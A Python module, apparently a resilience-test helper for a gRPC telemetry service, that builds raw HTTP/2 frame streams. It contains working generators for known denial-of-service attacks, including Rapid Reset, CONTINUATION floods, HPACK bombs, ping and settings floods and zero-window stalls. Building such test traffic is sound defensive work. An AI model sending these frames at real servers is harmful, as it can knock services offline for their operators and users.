"""Frames of HTTP/2 (RFC 9113) that only an attacker sends."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(6, 10)
END_STREAM, END_HEADERS = 1, 4
EMPTY_MESSAGE = bytes(5)
"""A gRPC message without content."""


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def settings(**values: int) -> bytes:
    """Return a SETTINGS frame: `window` is the initial one of each stream."""
    numbers = {"table": 1, "streams": 3, "window": 4}
    return frame(
        SETTINGS, payload=b"".join(struct.pack(">HI", numbers[n], v) for n, v in values.items())
    )


def headers(method: str = "GetRegistry", *more: tuple[str, str]) -> bytes:
    """Return the header block of a call."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/headcount.v1.TelemetryService/{method}"),
        (":authority", "a"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    ]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields)


def call(stream: int, method: str = "GetRegistry") -> bytes:
    """Return a whole call."""
    return frame(HEADERS, END_HEADERS, stream, headers(method)) + frame(
        DATA, END_STREAM, stream, EMPTY_MESSAGE
    )


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream in _streams():
        yield call(stream) + _reset(stream)


def rapid_reset_of_headers() -> Iterator[bytes]:
    """Yield the same before the message."""
    block = headers()
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block) + _reset(stream)


def resets_of_the_server() -> Iterator[bytes]:
    """Calls that the server has to take back itself (CVE-2025-8671)."""
    for stream in _streams():
        yield call(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation() -> Iterator[bytes]:
    """Headers without an end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, headers())
    part = Encoder().encode([("x-more", "y" * 200)])
    while True:
        yield frame(CONTINUATION, 0, 1, part)


def ping() -> Iterator[bytes]:
    """Pings, whose answers nobody reads (CVE-2019-9512)."""
    while True:
        yield frame(PING, payload=b"headcnt!")


def setting() -> Iterator[bytes]:
    """Settings, whose acknowledgements nobody reads (CVE-2019-9515)."""
    while True:
        yield settings(window=65_535)


def empty_data() -> Iterator[bytes]:
    """Yield a message in pieces of nothing (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, headers())
    while True:
        yield frame(DATA, 0, 1)


def priority() -> Iterator[bytes]:
    """Streams put in ever another order (CVE-2019-9513)."""
    for stream in _streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", max(stream - 2, 0), 1))


def window_updates() -> Iterator[bytes]:
    """Windows opened by a byte each."""
    while True:
        yield frame(WINDOW_UPDATE, payload=struct.pack(">I", 1))


def unknown_frames() -> Iterator[bytes]:
    """Frames of no known type."""
    while True:
        yield frame(0xEE, 0xFF, 1, b"x" * 100)


def table_references() -> Iterator[bytes]:
    """One long header, named again and again in a byte each (the HPACK bomb, CVE-2016-6581)."""
    long = Encoder().encode([("x-long", "z" * 3000)])
    for stream in _streams():
        block = headers() + (long if stream == 1 else b"") + b"\xbe" * 3000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def streams() -> Iterator[bytes]:
    """Calls that begin and never go on, past the number that is allowed."""
    block = headers("SubmitReport")
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block)


def closed_windows() -> Iterator[bytes]:
    """Calls whose answers cannot leave (CVE-2019-9511, -9517)."""
    yield settings(window=0)
    for stream in _streams():
        yield call(stream)


def oversized() -> Iterator[bytes]:
    """Messages of a mebibyte by their own account, and as many bytes as pass."""
    block = headers("SubmitReport")
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20) + bytes(16_000))


def noise() -> Iterator[bytes]:
    """Bytes of no meaning."""
    while True:
        yield bytes(range(256))


ATTACKS: tuple[Callable[[], Iterator[bytes]], ...] = (
    rapid_reset,
    rapid_reset_of_headers,
    resets_of_the_server,
    continuation,
    ping,
    setting,
    empty_data,
    priority,
    window_updates,
    unknown_frames,
    table_references,
    streams,
    closed_windows,
    oversized,
    noise,
)
